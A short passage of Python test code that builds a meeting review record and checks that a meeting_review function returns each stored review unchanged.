        "review-2024-01-10",
        "Title",
        None,
        ("Ann", "Bob"),
    )
    for review in DATA.reviews:
        assert meeting_review(DATA, review.date, {"en": "x"}, "") == review
